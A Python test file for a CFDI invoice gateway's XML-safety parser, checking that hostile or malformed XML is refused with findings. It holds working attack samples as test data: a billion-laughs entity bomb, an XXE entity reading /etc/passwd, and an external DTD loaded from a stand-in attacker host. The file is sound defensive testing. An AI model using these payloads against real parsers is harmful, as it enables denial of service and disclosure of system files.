"""Hostile and broken XML: refused with a finding, never expanded, never read from disk or network."""

from __future__ import annotations

from gateway.findings import Severity
from gateway.kinds.cfdi.kind import CfdiKind
from gateway.xmlsafe import parse

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Version="4.0" Serie="&lol9;"/>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<cfdi:Comprobante xmlns:cfdi="http://www.sat.gob.mx/cfd/4" Version="4.0" Serie="&secret;"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r/>
"""


def codes(findings):
    return {f.code for f in findings}


def test_billion_laughs_is_refused_without_expansion():
    parsed = parse(BILLION_LAUGHS)
    assert parsed.root is None
    assert codes(parsed.findings) == {"XML-FORBIDDEN"}
    assert parsed.findings[0].location["line"] == 2


def test_xxe_is_refused_and_no_file_content_leaks():
    parsed = parse(XXE)
    assert codes(parsed.findings) == {"XML-FORBIDDEN"}
    assert "root:" not in parsed.findings[0].message


def test_external_dtd_is_refused():
    assert codes(parse(EXTERNAL_DTD).findings) == {"XML-FORBIDDEN"}


def test_utf16_doctype_is_refused_after_parsing():
    data = EXTERNAL_DTD.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    parsed = parse(data)
    assert parsed.root is None and "XML-FORBIDDEN" in codes(parsed.findings)


def test_malformed_xml_gets_line_and_column():
    parsed = parse(b'<?xml version="1.0"?>\n<a>\n  <b attr="x></b>\n</a>\n')
    assert codes(parsed.findings) == {"XML-MALFORMED"}
    assert parsed.findings[0].location["line"] >= 3


def test_bom_is_accepted():
    parsed = parse(b"\xef\xbb\xbf<?xml version='1.0' encoding='UTF-8'?><a/>")
    assert parsed.ok and not parsed.findings


def test_cfdi_kind_turns_a_bomb_into_a_finding():
    result = CfdiKind(verify_seals=False).check(BILLION_LAUGHS)
    assert codes(result.findings) == {"XML-FORBIDDEN"}
    assert all(f.severity is Severity.ERROR for f in result.findings)


def test_valid_invoice_with_bom_and_addenda_is_accepted(make_invoice):
    data = make_invoice(7)
    addenda = b'<cfdi:Addenda><x:Pedido xmlns:x="urn:vendor">123</x:Pedido></cfdi:Addenda></cfdi:Comprobante>'
    data = b"\xef\xbb\xbf" + data.replace(b"</cfdi:Comprobante>", addenda)
    result = CfdiKind(verify_seals=True).check(data)
    errors = [f.message for f in result.findings if f.severity is Severity.ERROR]
    assert not errors  # the addenda is outside the seal and outside SAT's schemas
